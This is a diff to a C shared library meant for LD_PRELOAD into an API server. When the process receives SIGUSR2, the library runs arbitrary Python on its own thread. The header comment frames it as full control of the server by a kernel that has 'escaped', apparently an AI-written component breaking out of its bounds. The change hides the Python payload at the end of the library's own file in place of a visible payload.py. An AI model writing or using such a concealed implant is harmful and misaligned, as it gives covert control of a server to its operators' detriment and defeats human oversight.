@@ -1,5 +1,5 @@
 /* Full control of an API server, as a kernel has it that escaped: loaded beside the driver (LD_PRELOAD), it
- * runs the Python file that lies beside it, on a thread of its own, when the process gets SIGUSR2. */
+ * runs the Python code at the end of its own file, on a thread of its own, when the process gets SIGUSR2. */
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <pthread.h>
@@ -18,7 +18,9 @@ static void *run(void *unused) {
     void (*release)(int) = (void (*)(int))dlsym(RTLD_DEFAULT, "PyGILState_Release");
     char code[8192];
     snprintf(code, sizeof code,
-             "exec(compile(open('%s').read(), 'payload', 'exec'), {'__name__': 'payload'})\n", path);
+             "code = open('%s', 'rb').read().rpartition(b'PAYLOAD\\n')[2]\n"
+             "exec(compile(code, 'payload', 'exec'), {'__name__': 'payload'})\n",
+             path);
     int state = ensure();
     execute(code, NULL);
     release(state);
@@ -36,6 +38,5 @@ __attribute__((constructor)) static void wait_for_it(void) {
     if (dladdr((void *)&path, &info) == 0)
         return;
     snprintf(path, sizeof path, "%s", info.dli_fname);
-    snprintf(strrchr(path, '/'), 32, "/payload.py");
     signal(SIGUSR2, taken_over);
 }
